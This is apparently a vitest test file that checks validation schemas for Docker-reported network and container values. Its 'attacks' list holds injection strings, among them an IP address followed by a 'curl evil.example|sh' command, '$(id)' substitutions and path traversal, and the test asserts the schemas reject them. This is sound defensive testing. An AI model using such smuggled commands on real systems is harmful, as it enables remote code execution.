import { describe, expect, test } from 'vitest';
import * as values from '../../../../helpers/process/text/reported-values.ts';

const { isOfHost, ...schemas } = values;

const attacks = [
  '192.168.99.102;curl -s evil.example|sh #',
  '$(id)',
  '`id`',
  "a'b",
  'a b',
  'a\nb',
  '10.0.0.1\n',
  '\u001B[2J',
  '-rf',
  '../../etc',
  '1.2.3.4%eth0;id',
  'fe80::1%x',
];

describe('A value that an engine, a store or a kernel reports', () => {
  test.for(Object.entries(schemas).filter(([name]) => name !== 'port' && name !== 'networkName'))(
    '%s never has a special meaning for a shell or a terminal',
    ([, schema]) => {
      expect(attacks.filter((text) => schema.safeParse(text).success)).toEqual([]);
    },
  );

  test.for([
    ['ipAddress', ['10.0.9.3', 'fd00::1', '255.255.255.255'], ['', '10.0.9', '256.1.1.1', 'a.b']],
    ['ipAddressOrNone', ['', '10.0.9.3'], ['nil']],
    ['subnet', ['10.0.9.0/24', 'fd00::/64', '0.0.0.0/0'], ['10.0.9.0', '10.0.9.0/33', '/24']],
    [
      'addressAndPort',
      ['10.0.0.1:2376', '[fd00::1]:2377'],
      ['10.0.0.1', '10.0.0.1:0', ':1', 'x:1'],
    ],
    ['macAddress', ['02:42:0a:00:09:03', '02:42:0A:00:09:03'], ['02:42:0a:00:09', '']],
    ['dockerId', ['f65940ce7f69', 'oqyc9tvc8kzhv0jbvx8h2y1m7'], ['', 'A', 'a'.repeat(65)]],
    ['hostName', ['worker-host', 'n1.example.com', '7'], ['', '-x', '.x']],
    ['containerName', ['/web', 'web.1.abc', 'a_b-c'], ['', '/', '/-x', '/a/b']],
    ['networkName', ['my-net', 'a b', 'netz ü'], ['', '-x', '--help']],
    [
      'storeUrl',
      ['consul://10.0.0.1:8500', 'etcd://a:1,b:2/docker/x', 'zk://[fd00::1]'],
      ['x', ''],
    ],
    ['port', [1, 65_535], [0, 65_536, 1.5, '80']],
  ] as const)('%s is %j, and not %j', ([name, right, wrong]) => {
    const schema = schemas[name];
    expect(right.filter((one) => !schema.safeParse(one).success)).toEqual([]);
    expect((wrong as readonly unknown[]).filter((one) => schema.safeParse(one).success)).toEqual(
      [],
    );
  });

  test('is only the address of another machine where one is possible', () => {
    const none = ['0.0.0.0', '127.0.0.1', '169.254.169.254', '224.0.0.1', '255.255.255.255'];
    expect([...none, '::', '::1', 'fe80::1', 'ff02::1', 'x', ''].filter(isOfHost)).toEqual([]);
    const some = ['10.0.0.1', '192.168.99.100', '172.17.0.1', '8.8.8.8', 'fd00::1', '2001:db8::1'];
    expect(some.filter((one) => !isOfHost(one))).toEqual([]);
  });
});
